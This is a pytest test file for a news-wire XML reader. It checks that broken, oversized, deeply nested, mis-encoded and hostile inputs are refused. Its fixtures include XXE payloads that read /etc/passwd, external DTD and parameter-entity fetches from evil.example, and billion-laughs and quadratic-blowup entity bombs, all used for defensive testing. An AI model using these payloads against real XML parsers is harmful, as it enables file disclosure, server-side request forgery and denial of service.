"""XML that is broken or means harm is refused with a reason, whole and at once."""

import time

import pytest

from huiliu.newsroom.wire.core.g2.reading import read_g2
from huiliu.newsroom.wire.core.refusal import Reason, Refused
from huiliu.newsroom.wire.core.xml_document import BYTES_MAX, xml_root
from tests.newsroom.wire.core.g2_documents import NAR, a_document, a_message, an_item, left

LAUGHS = b"".join(
    b'<!ENTITY a%d "%s">' % (number + 1, b"&a%d;" % number * 10) for number in range(9)
)


def reason_of(data: bytes) -> Reason:
    with pytest.raises(Refused) as refused:
        read_g2(data)
    return refused.value.reason


@pytest.mark.parametrize("data", [b"", b" \n\t "])
def test_nothing_is_refused(data: bytes) -> None:
    assert reason_of(data) is Reason.EMPTY


def test_more_than_20_mb_are_refused() -> None:
    assert reason_of(b" " * (BYTES_MAX + 1)) is Reason.TOO_LARGE


@pytest.mark.parametrize(
    "data",
    [
        b"<!DOCTYPE newsItem><newsItem/>",
        b'<!DOCTYPE newsItem SYSTEM "http://evil.example/x.dtd"><newsItem/>',
        b'<!DOCTYPE newsItem [<!ENTITY x SYSTEM "file:///etc/passwd">]><newsItem>&x;</newsItem>',
        b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><a/>',
        b"<!DOCTYPE a [<!ENTITY a0 'ha'>" + LAUGHS + b"]><a>&a9;</a>",
        b"<!DOCTYPE a [<!ENTITY a0 'ha'>" + LAUGHS + b"]><a b='&a9;'/>",
        b"<!DOCTYPE a [<!ENTITY a '" + b"x" * 100_000 + b"'>]><a>" + b"&a;" * 10_000 + b"</a>",
        b"<!DOCTYPE a [",
    ],
)
def test_document_types_and_entities_are_refused_at_once(data: bytes) -> None:
    began = time.process_time()

    assert reason_of(data) is Reason.DOCUMENT_TYPE
    assert time.process_time() - began < 1


def test_an_entity_without_a_document_type_is_refused() -> None:
    assert reason_of(b"<newsItem>&nbsp;</newsItem>") is Reason.BROKEN_XML


def test_64_levels_are_read_and_one_more_is_refused() -> None:
    def nested(levels: int) -> bytes:
        return b"<a>" * levels + b"</a>" * levels

    assert xml_root(nested(64)).tag == "a"
    assert reason_of(nested(65)) is Reason.TOO_DEEP
    assert reason_of(nested(5_000)) is Reason.TOO_DEEP


def test_more_than_10_mb_of_text_in_one_place_are_refused() -> None:
    assert reason_of(b"<a>" + b"x" * 10_000_001 + b"</a>") is Reason.TOO_LARGE


def test_more_than_100_000_elements_are_refused() -> None:
    assert len(xml_root(b"<a>" + b"<b/>" * 99_999 + b"</a>")) == 99_999
    assert reason_of(b"<a>" + b"<b/>" * 100_000 + b"</a>") is Reason.TOO_MANY_ELEMENTS


@pytest.mark.parametrize(
    "data",
    [
        '<?xml version="1.0" encoding="utf-8"?><a>通州</a>'.encode("gb18030"),
        '<?xml version="1.0" encoding="us-ascii"?><a>通州</a>'.encode(),
        b'<?xml version="1.0" encoding="x-none"?><a/>',
    ],
)
def test_a_charset_that_is_not_the_declared_one_is_refused(data: bytes) -> None:
    assert reason_of(data) is Reason.WRONG_CHARSET


@pytest.mark.parametrize("charset", ["utf-8", "utf-16", "gb18030", "big5", "iso-8859-1"])
def test_declared_charsets_are_read(charset: str) -> None:
    word = "Bülow" if charset == "iso-8859-1" else "通州"
    text = f'<?xml version="1.0" encoding="{charset}"?><newsItem xmlns="{NAR}" guid="{word}"/>'

    (item,) = read_g2(text.encode(charset))

    assert item.uri == word


@pytest.mark.parametrize("share", [0.1, 0.5, 0.9, 0.99])
def test_a_file_that_is_cut_off_is_refused_with_its_line(share: float) -> None:
    data = a_document("\n<itemMeta>\n<title>文</title>\n</itemMeta>\n")

    with pytest.raises(Refused) as refused:
        read_g2(data[: int(len(data) * share)])

    assert refused.value.reason is Reason.BROKEN_XML
    assert refused.value.place >= 1


@pytest.mark.parametrize("data", [b"{}", b"\x00\x01", b"<a></b>", b"<a>\x01</a>", b"PK\x03\x04"])
def test_what_is_no_xml_is_refused(data: bytes) -> None:
    assert reason_of(data) is Reason.BROKEN_XML


def test_long_names_and_many_places_stay_small() -> None:
    name = "n" * 40_000

    item = an_item(f"<itemMeta><{name}/></itemMeta>")

    assert max(map(len, left(item))) < 100


def many(piece: str, times: int) -> str:
    """Repeat a piece, `#` being its number and `+` the next one."""
    return "".join(piece.replace("#", str(n)).replace("+", str(n + 1)) for n in range(times))


ASSERTED = f"<assert literal='a'>{'<name>x</name>' * 100}</assert>"
LISTS = {
    "headlines": f"<contentMeta>{many('<headline>x</headline>', 6_000)}</contentMeta>",
    "keywords": f"<contentMeta>{many('<keyword>#</keyword>', 6_000)}</contentMeta>",
    "names": "<contentMeta><subject>"
    + many("<broader qcode='a:#'/>", 10_000)
    + "</subject></contentMeta>",
    "asserted": ASSERTED
    + "<contentMeta>"
    + many("<subject literal='a'/>", 1_000)
    + "</contentMeta>",
    "assertions": many("<assert literal='#'/>", 6_000),
    "catalogues": many("<catalogRef href='http://c.example/1'/>", 10_000)
    + many("<catalog><scheme alias='#' uri='x'/></catalog>", 4_000),
    "groups": "<groupSet root='0'>"
    + many("<group id='#'><groupRef idref='+'/><groupRef idref='+'/></group>", 4_000)
    + "</groupSet>",
    "plannings": f"<newsCoverage>{many('<planning/>', 4_000)}</newsCoverage>",
    "parts": f"<partMeta>{many('<description>x</description>', 10_000)}</partMeta>",
    "headlines of NITF": "<contentSet><inlineXML><nitf xmlns=''><body><body.head><hedline>"
    + many("<hl1>#</hl1>", 10_000)
    + "</hedline></body.head></body></nitf></inlineXML></contentSet>",
    "persons of NITF": "<contentSet><inlineXML><nitf xmlns=''><body><body.content><p>"
    + many("<person>#</person>", 10_000)
    + "</p></body.content></body></nitf></inlineXML></contentSet>",
}


@pytest.mark.parametrize("name", LISTS)
def test_no_list_costs_more_than_its_length(name: str) -> None:
    data = a_document(LISTS[name], root="packageItem")
    known = {"http://c.example/1": dict.fromkeys(map(str, range(1_000)), "http://x.example/")}
    began = time.process_time()

    read_g2(data, catalogs=known)

    assert time.process_time() - began < 1


LONG = "x" * 100_000
GROWING = {
    "a language": f"<contentMeta xml:lang='{LONG}'>{many('<headline>x</headline>', 90)}"
    "</contentMeta>",
    "a scheme": f"<catalog><scheme alias='a' uri='{LONG}'/></catalog><contentMeta>"
    + many("<subject qcode='a:#'/>", 90)
    + "</contentMeta>",
    "an assertion": f"<assert literal='a'><name>{LONG[:300]}</name></assert><contentMeta>"
    + many("<subject literal='a'/>", 900)
    + "</contentMeta>",
    "a role": f"<contentMeta><subject><personDetails><contactInfo role='{LONG}'>"
    + many("<phone>#</phone>", 90)
    + "</contactInfo></personDetails></subject></contentMeta>",
    "a group": f"<groupSet root='0'><group id='0' role='{LONG}'>"
    + many("<itemRef residref='#'/>", 90)
    + "</group></groupSet>",
    "a delivery": "<newsCoverage>"
    + many("<planning/>", 900)
    + f"<delivery><deliveredItemRef guidref='{LONG[:300]}'/></delivery></newsCoverage>",
}


@pytest.mark.parametrize("name", GROWING)
def test_no_document_grows_by_reading(name: str) -> None:
    item = an_item(GROWING[name], root="packageItem")

    assert len(repr(item)) < 600_000


def test_what_a_message_says_once_stays_small() -> None:
    header = f"<header><sender>{LONG}</sender>{many('<y#/>', 600)}</header>"

    items = a_message("<newsItem/>" * 100, header=header)

    assert len(repr(items)) < 1_000_000
